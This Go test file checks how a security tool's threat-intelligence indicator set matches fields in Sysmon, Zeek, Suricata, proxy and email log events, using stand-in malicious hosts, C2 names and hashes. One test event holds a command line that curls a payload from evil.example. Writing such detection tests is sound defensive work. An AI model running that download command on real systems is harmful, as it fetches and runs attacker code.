// SPDX-License-Identifier: Apache-2.0

package intel

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/koban-csirt/koban/internal/event"
)

// newEvent builds an event from name, value pairs with interned names.
func newEvent(kv ...string) *event.Event {
	e := &event.Event{}
	for i := 0; i+1 < len(kv); i += 2 {
		e.Fields = append(e.Fields, event.Field{ID: event.MustIntern(kv[i]), Value: kv[i+1]})
	}
	return e
}

type hitRow struct{ Field, Value, Indicator string }

func hits(s interface {
	MatchEvent(*event.Event, func(Hit))
}, ev *event.Event) []hitRow {
	var got []hitRow
	s.MatchEvent(ev, func(h Hit) { got = append(got, hitRow{h.Field, h.Value, h.Indicator.Value}) })
	return got
}

// testSet is one list with every kind, used by the event tests.
func testSet(t testing.TB) *Set {
	return mustSet(t, nil,
		"ip", "203.0.113.9",
		"cidr", "198.51.100.0/24",
		"cidr", "2001:db8:bad::/48",
		"domain", "evil.example",
		"domain", "xn--r8jz45g.xn--zckzah",
		"url", "http://evil.example/payload.exe",
		"url", "http://cdn.example/dl/stage2.bin",
		"md5", "0123456789abcdef0123456789abcdef",
		"sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"email", "phish@bad.example",
		"domain", "bad.example",
	)
}

func TestMatchEvent(t *testing.T) {
	t.Parallel()
	s := testSet(t)
	tests := []struct {
		name string
		ev   *event.Event
		want []hitRow
	}{
		{"sysmon network connection", newEvent(
			"EventID", "3", "Image", `C:\Windows\System32\rundll32.exe`, "Protocol", "tcp",
			"SourceIp", "10.0.0.5", "SourceHostname", "WS01.corp.local", "SourcePort", "49733",
			"DestinationIp", "198.51.100.23", "DestinationHostname", "c2.EVIL.example", "DestinationPort", "443"),
			[]hitRow{{"DestinationIp", "198.51.100.23", "198.51.100.0/24"}, {"DestinationHostname", "c2.EVIL.example", "evil.example"}}},
		{"sysmon dns query with results", newEvent(
			"EventID", "22", "QueryName", "www.例え.テスト",
			"QueryResults", "type:  5 cdn.example;::ffff:203.0.113.9;2001:db8:bad::1;"),
			[]hitRow{{"QueryName", "www.例え.テスト", "xn--r8jz45g.xn--zckzah"}, {"QueryResults", "::ffff:203.0.113.9", "203.0.113.9"},
				{"QueryResults", "2001:db8:bad::1", "2001:db8:bad::/48"}}},
		{"sysmon hashes reported once", newEvent(
			"EventID", "1", "Hashes", "SHA1=AAAA,MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,IMPHASH=0123456789ABCDEF0123456789ABCDEF",
			"md5", "0123456789ABCDEF0123456789ABCDEF"),
			[]hitRow{{"Hashes", "0123456789ABCDEF0123456789ABCDEF", "0123456789abcdef0123456789abcdef"},
				{"Hashes", "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}},
		{"imphash is no md5", newEvent("Hashes", "IMPHASH=0123456789ABCDEF0123456789ABCDEF"), nil},
		{"security logon from address", newEvent("EventID", "4624", "IpAddress", "::ffff:203.0.113.9", "IpPort", "51234"),
			[]hitRow{{"IpAddress", "::ffff:203.0.113.9", "203.0.113.9"}}},
		{"zeek http path and host", newEvent(
			"id.orig_h", "10.0.0.5", "id.resp_h", "192.0.2.80", "host", "cdn.example:8080", "uri", "/dl/stage2.bin"),
			nil}, // the URL is http://cdn.example:8080/…, not the listed one on port 80
		{"zeek http path and host, default port", newEvent(
			"id.orig_h", "10.0.0.5", "host", "CDN.example", "uri", "/dl/stage2.bin?x=1", "c-uri", "/dl/stage2.bin?x=1", "cs-host", "CDN.example"),
			[]hitRow{{"uri", "/dl/stage2.bin?x=1", "http://cdn.example/dl/stage2.bin"}}},
		{"suricata full url", newEvent(
			"src_ip", "10.0.0.5", "dest_ip", "192.0.2.80", "http.hostname", "www.evil.example",
			"http.url", "HTTP://www.evil.example:80/index.html#top"),
			[]hitRow{{"http.hostname", "www.evil.example", "evil.example"}}},
		{"proxy url with host hit", newEvent("c-uri", "http://Evil.Example/payload.exe"),
			[]hitRow{{"c-uri", "http://Evil.Example/payload.exe", "http://evil.example/payload.exe"},
				{"c-uri", "Evil.Example", "evil.example"}}},
		{"proxy connect", newEvent("c-uri", "evil.example:443", "cs-method", "CONNECT"),
			[]hitRow{{"c-uri", "evil.example", "evil.example"}}},
		{"url with address host", newEvent("url.full", "https://[2001:db8:bad::7]:8443/x"),
			[]hitRow{{"url.full", "2001:db8:bad::7", "2001:db8:bad::/48"}}},
		{"tls sni trailing dot", newEvent("tls.sni", "login.evil.example."),
			[]hitRow{{"tls.sni", "login.evil.example.", "evil.example"}}},
		{"zeek answers", newEvent("query", "x.good.example", "answers", "x.good.example,198.51.100.1"),
			[]hitRow{{"answers", "198.51.100.1", "198.51.100.0/24"}}},
		{"zeek json arrays", newEvent("tx_hosts", `["10.0.0.4","198.51.100.9"]`, "rcptto", `["a@corp.example","PHISH@bad.example"]`,
			"answers", `["x.good.example","[2001:db8:bad::1]:53"]`),
			[]hitRow{{"tx_hosts", "198.51.100.9", "198.51.100.0/24"}, {"rcptto", "PHISH@bad.example", "phish@bad.example"},
				{"rcptto", "bad.example", "bad.example"}, {"answers", "2001:db8:bad::1", "2001:db8:bad::/48"}}},
		{"email header", newEvent("from", `"Support" <Phish@Bad.Example>`, "to", "a@corp.example, b@evil.example"),
			[]hitRow{{"from", "Phish@Bad.Example", "phish@bad.example"}, {"from", "Bad.Example", "bad.example"},
				{"to", "evil.example", "evil.example"}}},
		{"unmapped field ignored", newEvent("CommandLine", "curl http://evil.example/payload.exe 203.0.113.9"), nil},
		{"ports split", newEvent("src_ip", "[2001:db8:bad::2]:5353", "dest_ip", "203.0.113.9:53"),
			[]hitRow{{"src_ip", "2001:db8:bad::2", "2001:db8:bad::/48"}, {"dest_ip", "203.0.113.9", "203.0.113.9"}}},
		{"empty and junk values", newEvent("DestinationIp", "", "IpAddress", "-", "QueryName", "...", "md5", "xyz",
			"c-uri", "://", "QueryResults", ";;;", "Hashes", "=,=,", "from", "<>@"), nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tc.want, hits(s, tc.ev)); diff != "" {
				t.Errorf("MatchEvent (-want +got):\n%s", diff)
			}
		})
	}
}

// TestURLHostsWithoutURLIndicators covers the short way MatchEvent takes
// through URL fields when the set has no URL indicators.
func TestURLHostsWithoutURLIndicators(t *testing.T) {
	t.Parallel()
	s := mustSet(t, nil, "domain", "evil.example", "cidr", "2001:db8:bad::/48", "ip", "203.0.113.9")
	ev := newEvent("c-uri", "https://user@WWW.Evil.Example:8443/a?b#c", "url.full", "http://[2001:db8:bad::1]:80/",
		"http.url", "/only/a/path", "http.hostname", "intranet", "cs-referrer", "203.0.113.9:8080/x")
	want := []hitRow{{"c-uri", "WWW.Evil.Example", "evil.example"}, {"url.full", "2001:db8:bad::1", "2001:db8:bad::/48"},
		{"cs-referrer", "203.0.113.9", "203.0.113.9"}}
	if diff := cmp.Diff(want, hits(s, ev)); diff != "" {
		t.Errorf("MatchEvent (-want +got):\n%s", diff)
	}
}

func TestFieldKindsOption(t *testing.T) {
	t.Parallel()
	list := []Indicator{{Kind: KindIP, Value: "203.0.113.9"}}
	ev := newEvent("DestinationIp", "203.0.113.9", "peer_addr", "203.0.113.9")
	def, _ := NewSet(list)
	if got := hits(def, ev); len(got) != 1 || got[0].Field != "DestinationIp" {
		t.Errorf("default field kinds: hits %v, want one on DestinationIp", got)
	}
	custom, errs := NewSet(list, WithFieldKinds(FieldKinds{"peer_addr": KindIP}))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if got := hits(custom, ev); len(got) != 1 || got[0].Field != "peer_addr" {
		t.Errorf("WithFieldKinds(peer_addr): hits %v, want one on peer_addr only", got)
	}
	fk := DefaultFieldKinds()
	fk["DestinationIp"] = "" // leave it out
	fk["peer_addr"] = KindIP
	if defaultFieldKinds["DestinationIp"] != KindIP {
		t.Error("changing DefaultFieldKinds' map changed the default")
	}
	edited, errs := NewSet(list, WithFieldKinds(fk))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if got := hits(edited, ev); len(got) != 1 || got[0].Field != "peer_addr" {
		t.Errorf("defaults without DestinationIp, with peer_addr: hits %v, want one on peer_addr only", got)
	}
}

// The detector's interface (internal/detect declares it) is met by both.
var (
	_ interface{ MatchEvent(*event.Event, func(Hit)) } = (*Set)(nil)
	_ interface{ MatchEvent(*event.Event, func(Hit)) } = (*Live)(nil)
)

// TestMatchEventNoAllocs checks the promise that a miss costs no
// allocation, and a hit none beyond what fn does.
func TestMatchEventNoAllocs(t *testing.T) {
	s := testSet(t)
	miss := newEvent("SourceIp", "10.0.0.5", "DestinationIp", "192.0.2.1:443", "DestinationHostname", "www.Example.COM.",
		"QueryResults", "a.example;192.0.2.7", "c-uri", "https://www.example.com/a/b?c=d", "uri", "/x", "host", "h.example",
		"Hashes", "MD5=FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF,SHA256=AB", "from", "x <y@z.example>")
	hit := newEvent("DestinationIp", "198.51.100.1", "DestinationHostname", "c2.evil.example")
	n := 0
	fn := func(Hit) { n++ }
	for name, ev := range map[string]*event.Event{"miss": miss, "hit": hit} {
		if allocs := testing.AllocsPerRun(100, func() { s.MatchEvent(ev, fn) }); allocs != 0 {
			t.Errorf("MatchEvent on a %s: %v allocations per call, want 0", name, allocs)
		}
	}
	if n == 0 {
		t.Error("the hit event matched nothing")
	}
}
